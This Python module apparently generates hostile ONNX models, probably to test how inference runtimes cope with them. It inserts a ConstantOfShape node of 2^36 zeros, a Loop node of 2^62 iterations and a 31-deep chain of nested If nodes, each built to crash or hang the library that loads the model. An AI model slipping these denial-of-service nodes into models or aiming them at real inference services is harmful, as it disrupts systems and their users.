"""Changes of a network that make libraries crash, or run without end."""

from __future__ import annotations

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper


def add(network: onnx.ModelProto, *arrays: np.ndarray) -> list[str]:
    """Add constants; return their names."""
    names = [f"added{i}" for i in range(len(arrays))]
    network.graph.initializer.extend(map(numpy_helper.from_array, arrays, names))
    return names


def insert(network: onnx.ModelProto, *nodes: onnx.NodeProto) -> None:
    """Insert nodes before the others; the first convolution reads the last one's output."""
    network.graph.node[0].input[0] = nodes[-1].output[0]
    others = list(network.graph.node)
    del network.graph.node[:]
    network.graph.node.extend([*nodes, *others])


def enormous_constant(network: onnx.ModelProto) -> None:
    """The image and the largest of 2^36 zeros are added."""
    (shape,) = add(network, np.array([1 << 18, 1 << 18], np.int64))
    insert(
        network,
        helper.make_node("ConstantOfShape", [shape], ["zeros"], name="hostile"),
        helper.make_node("ReduceMax", ["zeros"], ["largest"], keepdims=0),
        helper.make_node("Add", ["images", "largest"], ["x"]),
    )


def endless_loop(network: onnx.ModelProto) -> None:
    trips, condition = add(network, np.array(1 << 62, np.int64), np.array(True))
    value = helper.make_tensor_value_info
    body = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["on"]), helper.make_node("Identity", ["a"], ["b"])],
        "body",
        [value("i", TensorProto.INT64, []), value("go", TensorProto.BOOL, []), value("a", TensorProto.FLOAT, None)],
        [value("on", TensorProto.BOOL, []), value("b", TensorProto.FLOAT, None)],
    )
    insert(network, helper.make_node("Loop", [trips, condition, "images"], ["x"], name="hostile", body=body))


def nested_ifs(network: onnx.ModelProto) -> None:
    (condition,) = add(network, np.array(True))
    out = helper.make_tensor_value_info("o", TensorProto.FLOAT, None)
    graph = other = helper.make_graph([helper.make_node("Identity", ["images"], ["o"])], "b", [], [out])
    for _ in range(30):
        node = helper.make_node("If", [condition], ["o"], then_branch=graph, else_branch=other)
        graph = helper.make_graph([node], "b", [], [out])
    insert(network, helper.make_node("If", [condition], ["x"], name="hostile", then_branch=graph, else_branch=other))
